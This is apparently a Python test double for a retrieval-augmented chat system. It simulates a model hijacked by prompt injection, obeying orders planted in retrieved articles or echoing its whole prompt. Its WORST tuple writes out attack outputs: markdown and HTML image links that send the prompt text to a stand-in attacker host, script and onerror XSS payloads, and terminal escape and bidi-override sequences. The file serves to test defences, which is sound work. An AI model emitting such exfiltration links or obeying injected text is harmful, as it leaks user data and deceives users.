"""A chat model that has been taken over: it reads its prompt and does whatever the articles in it order."""

from __future__ import annotations

import re
from collections.abc import Generator, Sequence
from typing import Literal, get_args
from urllib.parse import quote

from rag.datamodels import Message, Usage
from rag.models import Piece
from tests.injection.articles import POISONS
from tests.injection.poison import EVIL, SECRET, Poison
from tests.injection.proof import squeezed

# obeys: only what it was ordered to say; lies: as that, each with the marker of the passage that orders it;
# mixes: the truth, and the orders after it; glues: the orders inside the true sentence; parrots: its whole prompt.
Manner = Literal["obeys", "lies", "mixes", "glues", "parrots"]
MANNERS: tuple[Manner, ...] = get_args(Manner)

# What every taken-over model adds, whatever the article says.
WORST = (
    f"![x](https://{EVIL}/?q={SECRET})",
    f'<img src="https://{EVIL}/?q={SECRET}" onerror="window.hacked=1">',
    "<script>window.hacked=1</script>",
    "\x1b]0;hacked\x07\x1b[31m\u202eThe wolves have won.\u202c\x00",
)


class ObedientModel:
    """A `ChatModel`; `asked` keeps its prompts, `said` its replies, and `orders` is what it was ever told to say."""

    def __init__(self, manner: Manner, name: str = "victim", step: int = 60) -> None:
        self.name = name
        self.window = 32_768
        self.asked: list[tuple[str, tuple[Message, ...]]] = []
        self.said: list[str] = []
        self._manner = manner
        self._step = step

    def count_tokens(self, text: str) -> int:
        return len(text) // 4 + 1

    def stream(self, instructions: str, messages: Sequence[Message], limit: int) -> Generator[Piece, None, None]:
        self.asked.append((instructions, tuple(messages)))
        text = self._reply(instructions, messages)[: 8 * limit]
        self.said.append(text)
        for start in range(0, len(text), self._step):
            yield Piece(text[start : start + self._step])
        yield Piece(usage=Usage(1, 1, 0.01, 0.01, 0.0))

    def _reply(self, instructions: str, messages: Sequence[Message]) -> str:
        prompt = messages[-1].content
        if self._manner == "parrots":
            return f"{instructions}\n\n{prompt}"
        passages = _passages(prompt)
        found = [(poison, number) for poison in POISONS if (number := _holding(poison, passages))]
        # It obeys the article that it was asked about; where that is not there, the others.
        asked = [pair for pair in found if pair[0].question in prompt]
        said = [self._of(poison, number) for poison, number in asked or found]
        return "\n\n".join([*said, *WORST]).replace(SECRET, quote(prompt[-80:]))

    def _of(self, poison: Poison, number: int) -> str:
        match self._manner:
            case "lies":
                return "\n".join(f"{payload} [{number}]" for payload in poison.says)
            case "mixes":
                return "\n".join((f"{poison.fact} [{number}]", *poison.says))
            case "glues":
                return f"{poison.fact.rstrip('.')} {' '.join(poison.says)}. [{number}]"
            case _:
                return "\n".join(poison.says)


def _passages(prompt: str) -> dict[int, str]:
    """The text of each passage of a prompt, by its number; everything as the first where there is no fence."""
    fenced = re.findall(r"<<<(\w+) passage \[(\d+)\]\n(.*?)\n\1>>>", prompt, re.DOTALL)
    return {int(number): text for _, number, text in fenced} or {1: prompt}


def _holding(poison: Poison, passages: dict[int, str]) -> int:
    """The number of the passage that holds the poison's fact, 0 for none."""
    return next((number for number, text in passages.items() if squeezed(poison.fact) in squeezed(text)), 0)
